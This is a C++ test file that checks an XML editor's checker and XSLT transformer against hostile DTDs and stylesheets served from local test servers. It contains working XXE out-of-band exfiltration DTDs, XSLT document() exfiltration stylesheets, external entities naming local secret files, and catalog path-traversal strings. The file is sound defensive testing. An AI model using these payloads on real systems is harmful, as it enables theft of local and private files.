// Hostile DTDs, stylesheets and servers, played by servers on 127.0.0.1: a
// check or transform that has read anything from the network reads no local
// file (the secret file is watched: it is never opened), sends nothing of it
// anywhere, and reads FTP resources as the document's user only for the
// references of that user's own resources. Local texts keep naming local
// files.

#include <gtest/gtest.h>
#include <libxml/catalog.h>

#include <filesystem>
#include <functional>
#include <vector>

#include "FileOpenWatch.h"
#include "FtpTestServer.h"
#include "HttpTestServer.h"
#include "XMLToolsTestSupport.h"
#include "resource/TURL.h"
#include "resource/TURLSystem.h"
#include "xmltools/XMLEntityLoader.h"
#include "xmltools/pvtools.h"

namespace {

const char* const kSecret = "TOPSECRET";

const char* const kCopy = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">\n"
                          "<xsl:template match=\"/\"><xsl:copy-of select=\".\"/></xsl:template>\n"
                          "</xsl:stylesheet>\n";

// What a run gave: its output, or the message it failed with.
std::string RunOutcome(const std::function<std::string()>& run)
{
  try {
    return "output: " + run();
  } catch (const std::exception& e) {
    return std::string("failure: ") + e.what();
  }
}

std::string Check(const std::string& text, const std::string& location)
{
  TXMLChecker checker;
  checker.XML = text;
  checker.BaseURL = location;
  checker.Check();
  return "well-formed";
}

std::string TransformWith(const std::string& style, const std::string& styleLocation, const std::string& text,
                          const std::string& location)
{
  TXMLTransformer transformer;
  transformer.SetStyleSheet(style, styleLocation);
  std::string output;
  transformer.Transform(text, output, location);
  return output;
}

// Three places a document or stylesheet may come from: a local folder, a web
// server and an FTP server (read as its user, who may read the private files
// there). The web server is also the hostile one: its DTDs and stylesheets
// try to read local files and the FTP user's files and to send them to it.
class TaintRoutes : public ::testing::Test {
public:
  TaintRoutes() : Secret(MakeTempFolder("xmlplivek-secret")), Local(MakeTempFolder()), Web(MakeTempFolder()), Http(Web)
  {
    WriteTestFile(Secret + "secret.txt", kSecret);
    WriteTestFile(Secret + "secret.xml", std::string("<s>") + kSecret + "</s>\n");
    std::filesystem::create_directories(Ftp.Root + "private");
    WriteTestFile(Ftp.Root + "private/secret.txt", kSecret);
    WriteTestFile(Ftp.Root + "private/secret.xml", std::string("<s>") + kSecret + "</s>\n");
    FtpDocument = TURL("ftp:" + Ftp.Host() + "/doc.xml");
    FtpDocument.User = Ftp.Settings.User;
    FtpDocument.Password = Ftp.Settings.Password;
    FtpDocument.Passive = true;
  }
  ~TaintRoutes() override
  {
    TURL(FtpDocument).Disconnect();
    FreeURLSystem();
  }

  std::string WebURL(const std::string& name) const { return Http.BaseURL() + name; }
  std::string FtpURL(const std::string& name) const { return "ftp://" + Ftp.Host() + "/" + name; }

  // A DTD that reads target as a parameter entity and sends it to the web
  // server, through parameter entities declared inside another (libxml2
  // names no referrer for such a load).
  std::string ExfiltratingDtd(const std::string& target) const
  {
    return "<!ENTITY % file SYSTEM \"" + target + "\">\n"
           "<!ENTITY % wrap \"<!ENTITY &#x25; eval &#x22;<!ENTITY &#x26;#x25; exfil SYSTEM '" + WebURL("x?d=") +
           "&#x25;file;'>&#x22;>\">\n%wrap;\n%eval;\n%exfil;\n";
  }
  // A stylesheet that reads source with document() and sends it to the web server.
  std::string ExfiltratingStylesheet(const std::string& source) const
  {
    return "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">\n"
           "<xsl:template match=\"/\"><out><xsl:copy-of select=\"document(concat('" + WebURL("x?p=") +
           "', string(document('" + source + "'))))\"/></out></xsl:template>\n</xsl:stylesheet>\n";
  }

  // Puts a document text at origin ("local", "http" or "ftp") and gives its location.
  std::string Place(const std::string& origin, const std::string& name, const std::string& text)
  {
    if (origin == "http") {
      WriteTestFile(Web + name, text);
      return WebURL(name);
    }
    if (origin == "ftp") {
      WriteTestFile(Ftp.Root + name, text);
      return "ftp:" + Ftp.Host() + "/" + name;
    }
    WriteTestFile(Local + name, text);
    return Local + name;
  }

  // Nothing of the secret went anywhere: no request carries it, and the FTP
  // user's private files were not read.
  void ExpectNothingSent() const
  {
    EXPECT_EQ(Http.RequestLog().find(kSecret), std::string::npos) << Http.RequestLog();
    EXPECT_EQ(Ftp.ServerLog().find("RETR /private/"), std::string::npos);
  }

  const std::string Secret;
  const std::string Local;
  const std::string Web;
  HttpTestServer Http;
  FtpTestServer Ftp;
  TURL FtpDocument;
};

struct Route {
  std::string Name;
  std::vector<std::string> Origins;  // where the document or stylesheet of the route may come from
  std::function<std::vector<std::string>(TaintRoutes&, const std::string& origin)> Run;
};

}  // namespace

// The routes of the issue, each tried with the document (or stylesheet) from
// each place it applies to: the secret file is never opened and nothing of
// it is sent. (A result tab made from a web page is the editor's: see the
// main form's tools tests.)
TEST_F(TaintRoutes, NoRouteReadsALocalFileOrSendsOne)
{
  CurrentFolderScope scope(Local);
  XMLFTPLogin login(FtpDocument);
  const std::string secretURL = "file://" + Secret + "secret.txt";
  WriteTestFile(Web + "evil.dtd", ExfiltratingDtd(secretURL));
  WriteTestFile(Web + "ftp-evil.dtd", ExfiltratingDtd(FtpURL("private/secret.txt")));
  WriteTestFile(Web + "common.xsl", ExfiltratingStylesheet("file://" + Secret + "secret.xml"));
  WriteTestFile(Web + "ftp-common.xsl", ExfiltratingStylesheet(FtpURL("private/secret.xml")));
  WriteTestFile(Web + "wrapper.xml", "<!DOCTYPE w [<!ENTITY t SYSTEM \"" + secretURL + "\">]>\n<w>&t;</w>\n");
  WriteTestFile(Web + "wrapping.xsl", ExfiltratingStylesheet(WebURL("wrapper.xml")));
  const std::vector<std::string> all{"local", "http", "ftp"};
  const std::vector<Route> routes{
      {"a DTD from the web reads a file through parameter entities declared in one another", all,
       [&](TaintRoutes& t, const std::string& origin) {
         std::string text = "<!DOCTYPE d SYSTEM \"" + t.WebURL("evil.dtd") + "\">\n<d/>\n";
         std::string location = t.Place(origin, "doc.xml", text);
         return std::vector<std::string>{RunOutcome([&] { return Check(text, location); }),
                                         RunOutcome([&] { return TransformWith(kCopy, "", text, location); })};
       }},
      {"a stylesheet imports one from the web that reads a file with document()", all,
       [&](TaintRoutes& t, const std::string& origin) {
         std::string style = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">\n"
                             "<xsl:import href=\"" + t.WebURL("common.xsl") + "\"/>\n</xsl:stylesheet>\n";
         std::string location = t.Place(origin, "main.xsl", style);
         return std::vector<std::string>{
             RunOutcome([&] { return TransformWith(style, location, "<a/>", t.Local + "in.xml"); })};
       }},
      {"a stylesheet includes one from the web that reads a web document whose entity is a local file", all,
       [&](TaintRoutes& t, const std::string& origin) {
         std::string style = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">\n"
                             "<xsl:include href=\"" + t.WebURL("wrapping.xsl") + "\"/>\n</xsl:stylesheet>\n";
         std::string location = t.Place(origin, "main.xsl", style);
         return std::vector<std::string>{
             RunOutcome([&] { return TransformWith(style, location, "<a/>", t.Local + "in.xml"); })};
       }},
      {"the FTP user's document names a DTD from the web that reads the user's files", {"ftp"},
       [&](TaintRoutes& t, const std::string& origin) {
         std::string text = "<!DOCTYPE d SYSTEM \"" + t.WebURL("ftp-evil.dtd") + "\">\n<d/>\n";
         std::string location = t.Place(origin, "doc.xml", text);
         return std::vector<std::string>{RunOutcome([&] { return Check(text, location); }),
                                         RunOutcome([&] { return TransformWith(kCopy, "", text, location); })};
       }},
      {"a stylesheet from the web transforms the FTP user's document and reads the user's files", {"ftp"},
       [&](TaintRoutes& t, const std::string& origin) {
         std::string location = t.Place(origin, "doc.xml", "<d/>\n");
         return std::vector<std::string>{RunOutcome([&] {
           return TransformWith(ReadTestFile(t.Web + "ftp-common.xsl"), t.WebURL("ftp-common.xsl"), "<d/>\n",
                                location);
         })};
       }},
  };
  for (const Route& route : routes) {
    for (const std::string& origin : route.Origins) {
      SCOPED_TRACE(route.Name + ", from " + origin);
      FileOpenWatch text(Secret + "secret.txt");
      FileOpenWatch xml(Secret + "secret.xml");
      for (const std::string& outcome : route.Run(*this, origin)) EXPECT_EQ(outcome.find(kSecret), std::string::npos);
      EXPECT_FALSE(text.Opened());
      EXPECT_FALSE(xml.Opened());
      ExpectNothingSent();
    }
  }
  // Each hostile resource was fetched, so each route was tried for real.
  for (const char* name : {"evil.dtd", "ftp-evil.dtd", "common.xsl", "wrapping.xsl", "wrapper.xml"})
    EXPECT_NE(Http.RequestLog().find(std::string("GET /") + name + " "), std::string::npos) << name;
}

// The FTP user's own resources still read as the user: a DTD beside the
// document names an entity beside it, in a private folder.
TEST_F(TaintRoutes, TheFtpUsersOwnResourcesReadAsTheUser)
{
  CurrentFolderScope scope(Local);
  XMLFTPLogin login(FtpDocument);
  WriteTestFile(Ftp.Root + "private/doc.dtd", "<!ENTITY % more SYSTEM \"more.ent\">\n%more;\n");
  WriteTestFile(Ftp.Root + "private/more.ent", "<!ENTITY own SYSTEM \"own.txt\">\n");
  WriteTestFile(Ftp.Root + "private/own.txt", "own words");
  const std::string text = "<!DOCTYPE d SYSTEM \"private/doc.dtd\">\n<d>&own;</d>\n";
  const std::string location = Place("ftp", "doc.xml", text);
  EXPECT_EQ(RunOutcome([&] { return TransformWith(kCopy, "", text, location); }),
            "output: <?xml version=\"1.0\"?>\n<d>own words</d>\n");
}

// A document validated against a schema as well as a DTD from the web: the
// schema validator stands between the parser and its handlers, and the web
// DTD's entity of a local file is still known as the web's, so not read.
TEST_F(TaintRoutes, ASchemaValidatedDocumentsWebDtdReadsNoLocalFile)
{
  CurrentFolderScope scope(Local);
  WriteTestFile(Web + "entity.dtd", "<!ELEMENT d (#PCDATA)>\n<!ATTLIST d xmlns:xsi CDATA #IMPLIED "
                                    "xsi:noNamespaceSchemaLocation CDATA #IMPLIED>\n"
                                    "<!ENTITY s SYSTEM \"file://" + Secret + "secret.txt\">\n");
  WriteTestFile(Local + "d.xsd", "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\">"
                                 "<xs:element name=\"d\" type=\"xs:string\"/></xs:schema>\n");
  const std::string text = "<!DOCTYPE d SYSTEM \"" + WebURL("entity.dtd") + "\">\n"
                           "<d xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                           "xsi:noNamespaceSchemaLocation=\"d.xsd\">&s;</d>\n";
  FileOpenWatch secret(Secret + "secret.txt");
  TXMLChecker checker;
  checker.Validate = true;
  checker.XML = text;
  checker.BaseURL = Local + "d.xml";
  std::string outcome = RunOutcome([&] { return std::string(checker.Check() ? "valid" : "invalid"); });
  EXPECT_NE(outcome.find("a resource from the web may not refer to a local file"), std::string::npos) << outcome;
  EXPECT_FALSE(secret.Opened());
}

// After a DTD from the web, the local document still reads the local files
// its own internal subset names; the web DTD's own references do not.
TEST_F(TaintRoutes, ALocalDocumentReadsTheLocalFilesItNamesItself)
{
  CurrentFolderScope scope(Local);
  WriteTestFile(Web + "book.dtd", "<!ELEMENT book (#PCDATA)>\n");
  WriteTestFile(Local + "chapter.txt", "chapter one");
  const std::string text = "<!DOCTYPE book SYSTEM \"" + WebURL("book.dtd") +
                           "\" [<!ENTITY chapter SYSTEM \"chapter.txt\">]>\n<book>&chapter;</book>\n";
  EXPECT_EQ(RunOutcome([&] { return TransformWith(kCopy, "", text, Local + "book.xml"); }),
            "output: <?xml version=\"1.0\"?>\n<book>chapter one</book>\n");
  EXPECT_EQ(RunOutcome([&] { return Check(text, Local + "book.xml"); }), "output: well-formed");
}

namespace {

// Makes a catalog file the system's catalog for the scope.
class CatalogScope {
public:
  explicit CatalogScope(const std::string& file) : Files("XML_CATALOG_FILES", file) { xmlCatalogCleanup(); }
  ~CatalogScope() { xmlCatalogCleanup(); }
  CatalogScope(const CatalogScope&) = delete;
  CatalogScope& operator=(const CatalogScope&) = delete;

private:
  EnvironmentScope Files;
};

}  // namespace

// A catalog entry that rewrites a web prefix to a local folder: a system
// identifier that climbs out of the prefix ("..", also written %2E%2E) is
// looked up normalised, so it reads nothing of the folder above; what lies
// inside the folder loads offline from any document.
TEST_F(TaintRoutes, ACatalogRewriteStaysInsideItsFolder)
{
  CurrentFolderScope scope(Local);
  const std::string catalogFolder = MakeTempFolder("xmlplivek-catalog");
  std::filesystem::create_directories(catalogFolder + "dtds");
  WriteTestFile(catalogFolder + "dtds/note.dtd", "<!ELEMENT note (#PCDATA)>\n");
  WriteTestFile(catalogFolder + "secret.txt", kSecret);
  const std::string prefix = WebURL("dtds/");
  WriteTestFile(catalogFolder + "catalog.xml",
                "<catalog xmlns=\"urn:oasis:names:tc:entity:xmlns:xml:catalog\">\n"
                "<rewriteSystem systemIdStartString=\"" + prefix + "\" rewritePrefix=\"file://" + catalogFolder +
                    "dtds/\"/>\n</catalog>\n");
  CatalogScope catalog(catalogFolder + "catalog.xml");
  FileOpenWatch secret(catalogFolder + "secret.txt");
  for (const std::string origin : {"local", "http", "ftp"}) {
    SCOPED_TRACE(origin);
    for (const std::string& climb : {prefix + "../secret.txt", prefix + "%2E%2E/secret.txt", prefix + "..%2Fsecret.txt"}) {
      std::string text = "<!DOCTYPE note SYSTEM \"" + climb + "\">\n<note/>\n";
      std::string outcome = RunOutcome([&] { return Check(text, Place(origin, "note.xml", text)); });
      EXPECT_EQ(outcome.find(kSecret), std::string::npos) << outcome;
    }
    std::string good = "<!DOCTYPE note SYSTEM \"" + prefix + "note.dtd\">\n<note>x</note>\n";
    TXMLChecker checker;
    checker.Validate = true;
    checker.XML = good;
    checker.BaseURL = Place(origin, "note.xml", good);
    EXPECT_EQ(RunOutcome([&] { return std::string(checker.Check() ? "valid" : "invalid"); }), "output: valid");
  }
  EXPECT_FALSE(secret.Opened());
  EXPECT_EQ(Http.RequestLog().find("GET /dtds/note.dtd"), std::string::npos);  // the catalog's copy was read
}
